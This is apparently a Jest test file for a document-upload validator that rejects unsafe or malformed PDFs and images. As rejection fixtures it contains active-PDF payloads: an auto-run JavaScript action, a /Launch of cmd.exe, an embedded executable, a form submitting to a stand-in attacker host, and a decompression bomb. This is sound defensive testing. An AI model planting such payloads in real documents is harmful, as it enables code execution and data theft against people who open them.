import zlib, { deflateSync } from 'node:zlib';
import { DomainError } from '../errors/domain-error';
import { inspectDocumentFile } from './document-file';
import { outlineOfPdf } from './pdf';

const PDF = 'application/pdf';
const ZIP = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(40)]);
// One white pixel, as an encoder writes it.
const WEBP = Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');

/** A PDF of these objects, the first being the catalogue, with an index of the old kind. */
function pdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  objects.forEach((object, i) =>
    parts.push(Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')),
  );
  const index = Buffer.concat(parts).length;
  parts.push(
    Buffer.from(`xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\n`),
    Buffer.from(`startxref\n${index}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}
const CATALOGUE = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';
const packed = (dictionary: string, text: string): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Filter /FlateDecode >>\nstream\n`),
    deflateSync(Buffer.from(text, 'latin1')),
    Buffer.from('\nendstream'),
  ]);
const PLAIN = pdf([CATALOGUE, PAGES]);

/** How many characters were searched through, cut out or put to an expression meanwhile. */
function lookedOver(act: () => unknown): number {
  const { indexOf, lastIndexOf, slice } = String.prototype;
  const { exec } = RegExp.prototype;
  let characters = 0;
  String.prototype.indexOf = function (part, from = 0) {
    const at = indexOf.call(this, part, from);
    characters += (at < 0 ? this.length : at) - from;
    return at;
  };
  String.prototype.lastIndexOf = function (part, from = Infinity) {
    const at = lastIndexOf.call(this, part, from);
    characters += Math.min(from, this.length) - Math.max(at, 0);
    return at;
  };
  String.prototype.slice = function (from, to) {
    const cut = slice.call(this, from, to);
    characters += cut.length;
    return cut;
  };
  // `replace` and `matchAll` too come by here, once for each place that is found, and go on from there.
  RegExp.prototype.exec = function (text) {
    const from = this.global || this.sticky ? this.lastIndex : 0;
    const found = exec.call(this, text);
    characters += (found ? found.index + found[0].length : text.length) - from;
    return found;
  };
  try {
    act();
  } finally {
    Object.assign(String.prototype, { indexOf, lastIndexOf, slice });
    RegExp.prototype.exec = exec;
  }
  return characters;
}

function refusal(bytes: Uint8Array, type: string, limits?: { maxBytes: number; maxPixels: number }): string {
  try {
    inspectDocumentFile(bytes, type, limits);
  } catch (error) {
    expect(error).toBeInstanceOf(DomainError);
    expect((error as DomainError).kind).toBe('invalid');
    return (error as DomainError).code;
  }
  return 'accepted';
}

describe('inspectDocumentFile', () => {
  it('accepts a PDF and keeps it up to its end mark', () => {
    const file = inspectDocumentFile(Buffer.concat([PLAIN, ZIP]), 'Application/PDF; x=y');
    expect(file).toMatchObject({ contentType: PDF, extension: 'pdf' });
    expect(Buffer.from(file.bytes).toString('latin1')).toBe(PLAIN.toString('latin1').trimEnd());
  });

  it('accepts a picture as inspectImage does, with its ending', () => {
    expect(inspectDocumentFile(Buffer.concat([WEBP, ZIP]), 'image/webp')).toEqual({
      contentType: 'image/webp',
      extension: 'webp',
      bytes: WEBP,
    });
    expect(refusal(WEBP, PDF)).toBe('image_type_mismatch');
    expect(refusal(WEBP.subarray(0, 20), 'image/webp')).toBe('damaged_image');
    expect(refusal(WEBP, 'image/webp', { maxBytes: 1_000, maxPixels: 0 })).toBe('image_dimensions_too_large');
  });

  it.each([
    ['nothing', Buffer.alloc(0)],
    ['a page', Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['an archive with a PDF inside', Buffer.concat([ZIP, PLAIN])],
    ['a PDF behind something else', Buffer.concat([Buffer.from('\n'), PLAIN])],
    ['a spreadsheet', Buffer.from('name,phone\nAsha,1\n')],
  ])('does not support %s, whatever it is called', (_what, bytes) => {
    for (const type of [PDF, 'image/png', 'text/html']) expect(refusal(bytes, type)).toBe('unsupported_document_file');
  });

  it('wants the declared type to agree', () => {
    expect(refusal(PLAIN, 'image/png')).toBe('document_file_type_mismatch');
    expect(refusal(PLAIN, '')).toBe('document_file_type_mismatch');
  });

  it('counts bytes up to the limit exactly', () => {
    const limits = { maxBytes: PLAIN.length, maxPixels: 1 };
    expect(refusal(PLAIN, PDF, limits)).toBe('accepted');
    expect(refusal(Buffer.concat([PLAIN, Buffer.alloc(1)]), PDF, limits)).toBe('document_file_too_large');
    expect(refusal(Buffer.alloc(5 * 1024 * 1024 + 1), PDF)).toBe('document_file_too_large');
  });

  it('calls every truncation of a PDF damaged', () => {
    const whole = PLAIN.toString('latin1').trimEnd().length;
    for (let length = 5; length < whole; length++) expect(refusal(PLAIN.subarray(0, length), PDF)).toBe('damaged_pdf');
  });

  it.each([
    ['of no version', Buffer.from(PLAIN.toString('latin1').replace('1.7', '9.x'), 'latin1')],
    [
      'whose index is elsewhere',
      Buffer.from(PLAIN.toString('latin1').replace(/startxref\n\d+/, 'startxref\n3'), 'latin1'),
    ],
    [
      'whose index is beyond its end',
      Buffer.from(PLAIN.toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999'), 'latin1'),
    ],
    ['without a root', Buffer.from(PLAIN.toString('latin1').replace('/Root', '/Tree'), 'latin1')],
  ])('calls a PDF %s damaged', (_what, bytes) => {
    expect(refusal(bytes, PDF)).toBe('damaged_pdf');
  });

  it.each([
    ['a script at opening', '<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'],
    ['a script whose name is spelled in digits', '<< /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >>'],
    ['a program to start', '<< /OpenAction << /S /Launch /F (cmd.exe) >> >>'],
    ['a file inside', '<< /Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >> >>'],
    ['a form in XML', '<< /AcroForm << /XFA 3 0 R >> >>'],
    ['a form that sends itself', '<< /A << /S /SubmitForm /F (http://evil.example) >> >>'],
    ['a film', '<< /Subtype /RichMedia >>'],
  ])('refuses %s, in the open and packed', (_what, object) => {
    expect(refusal(pdf([CATALOGUE, PAGES, object]), PDF)).toBe('active_pdf');
    const inside = `3 0 ${object}`;
    expect(refusal(pdf([CATALOGUE, PAGES, packed('/Type /ObjStm /N 1 /First 4', inside)]), PDF)).toBe('active_pdf');
    // A dictionary that hides what the stream is, from a reader who trusts the word in front of it.
    const hidden = packed('/Type /Obj#53tm /N 1 /First 4 /Note (endobj 4 0 obj)', inside);
    expect(refusal(pdf([CATALOGUE, PAGES, hidden]), PDF)).toBe('active_pdf');
  });

  it('is not troubled by such words where they name nothing, nor by links and forms that do nothing', () => {
    const harmless = [
      '<< /Title (How to Launch, with JavaScript and EmbeddedFiles) /LaunchDate (2026) >>',
      '<< /A << /S /URI /URI (https://parivahan.gov.in) >> /AcroForm << /Fields [] >> /OpenAction [4 0 R /Fit] >>',
      packed('', 'q 1 0 0 1 0 0 cm /Im1 Do Q'),
      packed('/Type /ObjStm /N 1 /First 4', '5 0 << /Type /Page >>'),
      Buffer.concat([
        Buffer.from('<< /Length 5 /Filter /DCTDecode >>\nstream\n'),
        Buffer.from('\xff\xd8/XFA', 'latin1'),
        Buffer.from('\nendstream'),
      ]),
    ];
    expect(refusal(pdf([CATALOGUE, PAGES, ...harmless]), PDF)).toBe('accepted');
  });

  it('refuses what it cannot look into', () => {
    expect(refusal(pdf([CATALOGUE, PAGES], '/Encrypt 9 0 R '), PDF)).toBe('encrypted_pdf');
    const otherwise = '<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\nabc\nendstream';
    expect(refusal(pdf([CATALOGUE, PAGES, otherwise]), PDF)).toBe('damaged_pdf');
  });

  it('is not made to unpack a thousand million bytes', () => {
    const bomb = packed('/Type /ObjStm /N 1 /First 4', `1 0 ${' '.repeat(80 * 1024 * 1024)}`);
    expect(bomb.length).toBeLessThan(200_000);
    expect(refusal(pdf([CATALOGUE, PAGES, bomb]), PDF)).toBe('pdf_too_complex');
  });

  it('counts what it only glances at, and what breaks, against the same budget', () => {
    const inflated = jest.spyOn(zlib, 'inflateSync');
    // None of them is what is looked for, and each holds half a million bytes in its first few hundred.
    const sound = packed('', `q ${' '.repeat(600_000)}`);
    const broken = Buffer.from(sound);
    broken.fill(0xff, sound.indexOf('stream') + 20, sound.indexOf('stream') + 60);
    for (const bomb of [sound, broken]) {
      inflated.mockClear();
      expect(refusal(pdf([CATALOGUE, PAGES, ...Array<Buffer>(5_000).fill(bomb)]), PDF)).toBe('pdf_too_complex');
      const most = inflated.mock.calls.reduce((sum, [, options]) => sum + options!.maxOutputLength!, 0);
      expect(most).toBeLessThanOrEqual(64 * 1024 * 1024);
    }
    inflated.mockRestore();
    // A scan in a thousand strips is none of it.
    const strip = packed('/Subtype /Image', 'noise'.repeat(100) + ' '.repeat(3_000));
    expect(refusal(pdf([CATALOGUE, PAGES, ...Array<Buffer>(1_000).fill(strip)]), PDF)).toBe('accepted');
  });

  it('looks no longer than three seconds', () => {
    const streams = pdf([CATALOGUE, PAGES, ...Array<Buffer>(20).fill(packed('', 'q Q'))]);
    const codeAfter = (eachLook: number): string => {
      let now = 0;
      try {
        outlineOfPdf(streams, () => (now += eachLook));
      } catch (error) {
        return (error as DomainError).code;
      }
      return 'accepted';
    };
    expect([codeAfter(100), codeAfter(200)]).toEqual(['accepted', 'pdf_too_complex']);
  });

  it.each(['stream\n', '>> stream\n', '1 0 obj << /ObjStm >> stream\n', '>>', '%%EOF', 'startxref 1 '])(
    'goes over a file full of %j a few times, and not again from each place',
    (text) => {
      const full = pdf([CATALOGUE, PAGES, Buffer.alloc(4 * 1024 * 1024, text)]);
      const times = lookedOver(() => refusal(full, PDF)) / full.length;
      expect(times).toBeGreaterThan(2);
      // Ten thousand streams at most are looked at, each with 4 KiB before it: that alone is ten times so much.
      expect(times).toBeLessThan(100);
    },
  );

  it('would be seen to go over it again from each place', () => {
    const text = 'stream\n'.repeat(2_000);
    const rest = (): number =>
      [...text.matchAll(/stream/g)].filter(({ index }) => text.indexOf('end', index) > 0).length;
    expect(lookedOver(rest) / text.length).toBeGreaterThan(100);
  });

  it('survives every single flipped byte', () => {
    for (let at = 0; at < PLAIN.length; at++) {
      const flipped = Buffer.from(PLAIN);
      flipped[at] = flipped[at]! ^ 0xff;
      refusal(flipped, PDF);
    }
  });
});
